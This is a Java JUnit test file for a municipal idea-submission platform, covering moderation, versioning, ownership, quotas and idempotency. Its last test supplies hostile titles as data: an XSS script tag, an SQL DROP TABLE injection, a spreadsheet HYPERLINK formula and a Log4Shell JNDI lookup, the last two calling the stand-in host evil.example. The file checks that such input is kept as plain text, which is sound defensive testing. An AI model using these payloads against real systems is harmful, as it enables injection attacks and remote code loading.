package de.saalelab.idea;

import static org.assertj.core.api.Assertions.assertThat;

import de.saalelab.app.Answer;
import de.saalelab.app.Caller;
import de.saalelab.app.Ideas;
import de.saalelab.app.TestLab;
import de.saalelab.platform.Role;
import io.vertx.core.json.JsonObject;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class IdeaJourneyTest {
    private static final TestLab LAB = TestLab.shared();

    @Test
    void ideaGoesFromPhoneThroughModerationToEverybody() {
        Caller author = LAB.citizen();
        Caller moderator = LAB.staff(Role.MODERATOR);
        String id = Ideas.submit(author, Ideas.idea("Licht am Saaleradweg"));

        assertThat(LAB.anonymous().get("/ideas/" + id).problem()).isEqualTo("idea-not-found");
        assertThat(author.get("/ideas/" + id).json().getString("status")).isEqualTo("submitted");

        Answer decided = Ideas.decide(moderator, Ideas.caseOf(LAB, id), new JsonObject().put("decision", "publish"));
        assertThat(decided.json().getString("decidedBy")).isEqualTo("Moderation");
        assertThat(LAB.anonymous().get("/ideas/" + id).json().getString("status"))
                .isEqualTo("published");

        LAB.deliverEvents();
        List<JsonObject> inbox = author.get("/me/inbox").items();
        assertThat(inbox).extracting(message -> message.getString("title")).contains("Ihre Idee ist veröffentlicht");
    }

    @Test
    void returnedIdeaCarriesItsReasonAndComesBack() {
        Caller author = LAB.citizen();
        Caller moderator = LAB.staff(Role.MODERATOR);
        String id = Ideas.submit(author, Ideas.idea("Bank am Geiseltalsee"));
        JsonObject back =
                new JsonObject().put("decision", "return").put("reason", "Bitte nennen Sie den Uferabschnitt.");
        Ideas.decide(moderator, Ideas.caseOf(LAB, id), back);

        Answer returned = author.get("/ideas/" + id);
        assertThat(returned.json().getString("reason")).isEqualTo("Bitte nennen Sie den Uferabschnitt.");
        assertThat(LAB.citizen().get("/ideas/" + id).problem()).isEqualTo("idea-not-found");

        Answer edited = author.with("If-Match", returned.header("ETag").orElseThrow())
                .put("/ideas/" + id, Ideas.idea("Bank am Geiseltalsee, Ostufer"));
        assertThat(edited.json().getString("status")).isEqualTo("submitted");
        assertThat(edited.json().containsKey("reason")).isFalse();
        assertThat(Ideas.caseOf(LAB, id)).isNotBlank();
    }

    @Test
    void decisionAgainstTheAuthorNeedsReason() {
        Caller author = LAB.citizen();
        Caller moderator = LAB.staff(Role.MODERATOR);
        String id = Ideas.submit(author, Ideas.idea("Freibier für alle"));
        String caseId = Ideas.caseOf(LAB, id);

        assertThat(Ideas.decide(moderator, caseId, new JsonObject().put("decision", "decline"))
                        .problem())
                .isEqualTo("reason-required");
        assertThat(author.get("/ideas/" + id).json().getString("status")).isEqualTo("submitted");
    }

    @Test
    void staleVersionChangesNothing() {
        Caller author = LAB.citizen();
        Answer draft = author.create("/ideas", Ideas.idea("Entwurf zum Üben").put("submit", false));
        String path = "/ideas/" + draft.json().getString("id");
        String first = draft.header("ETag").orElseThrow();
        JsonObject change = Ideas.idea("Entwurf, zweite Fassung").put("submit", false);

        assertThat(author.put(path, change).problem()).isEqualTo("version-required");
        assertThat(author.with("If-Match", first).put(path, change).status()).isEqualTo(200);
        assertThat(author.with("If-Match", first).put(path, change).problem()).isEqualTo("version-stale");
        assertThat(author.with("If-Match", "\"nonsense\"").put(path, change).problem())
                .isEqualTo("version-stale");
    }

    @Test
    void strangerCannotTouchAnIdea() {
        Caller author = LAB.citizen();
        Caller stranger = LAB.citizen();
        Answer draft = author.create("/ideas", Ideas.idea("Meine eigene Sache").put("submit", false));
        String path = "/ideas/" + draft.json().getString("id");

        assertThat(stranger.get(path).problem()).isEqualTo("idea-not-found");
        assertThat(stranger.with("If-Match", "\"v1-x\"")
                        .put(path, Ideas.idea("Gekapert"))
                        .problem())
                .isEqualTo("idea-not-found");
        assertThat(stranger.delete(path).problem()).isEqualTo("idea-not-found");
        assertThat(author.get(path).json().getString("title")).isEqualTo("Meine eigene Sache");
    }

    @Test
    void withdrawnIdeaLeavesTheQueue() {
        Caller author = LAB.citizen();
        String id = Ideas.submit(author, Ideas.idea("Doch nicht"));
        String caseId = Ideas.caseOf(LAB, id);

        assertThat(author.delete("/ideas/" + id).status()).isEqualTo(204);
        assertThat(author.delete("/ideas/" + id).status()).isEqualTo(204);
        Answer decision = LAB.staff(Role.MODERATOR)
                .with("If-Match", "\"v1-x\"")
                .put("/review-cases/" + caseId + "/decision", new JsonObject().put("decision", "publish"));
        assertThat(decision.problem()).isEqualTo("case-not-found");
    }

    @Test
    void elevenOpenIdeasAreOneTooMany() {
        Caller author = LAB.citizen();
        for (int i = 0; i < 10; i++) {
            Ideas.submit(author, Ideas.idea("Idee Nummer " + i));
        }

        assertThat(author.create("/ideas", Ideas.idea("Idee Nummer elf")).problem())
                .isEqualTo("too-many-open-ideas");
    }

    @Test
    void sameKeyGivesTheFirstAnswerAgain() {
        Caller author = LAB.citizen().with("Idempotency-Key", UUID.randomUUID().toString());
        Answer first = author.post("/ideas", Ideas.idea("Nur einmal gemeint"));
        Answer second = author.post("/ideas", Ideas.idea("Nur einmal gemeint"));

        assertThat(second.status()).isEqualTo(201);
        assertThat(second.body()).isEqualTo(first.body());
        assertThat(second.header("Location")).isEqualTo(first.header("Location"));
        assertThat(author.post("/ideas", Ideas.idea("Etwas ganz anderes")).problem())
                .isEqualTo("idempotency-conflict");
        assertThat(LAB.number("SELECT count(*) FROM idea WHERE author = ?", author.person()))
                .isEqualTo(1);
    }

    @Test
    void unknownMunicipalityAndCallAreNamed() {
        Caller author = LAB.citizen();

        assertThat(author.create("/ideas", Ideas.idea("Aus der Ferne").put("municipality", "atlantis"))
                        .problem())
                .isEqualTo("unknown-municipality");
        assertThat(author.create(
                                "/ideas",
                                Ideas.idea("Ohne Aufruf")
                                        .put("callId", UUID.randomUUID().toString()))
                        .problem())
                .isEqualTo("call-not-found");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script> Licht",
                "'; DROP TABLE idea; --",
                "=HYPERLINK(\"http://evil.example\")",
                "${jndi:ldap://evil.example/a}",
                "Ümläute, 中文 und 🚲"
            })
    void hostileTextIsKeptAsTheTextThatItIs(String title) {
        Caller author = LAB.citizen();
        String id = Ideas.publish(LAB, author, Ideas.idea(title));

        assertThat(LAB.anonymous().get("/ideas/" + id).json().getString("title"))
                .isEqualTo(title);
    }
}
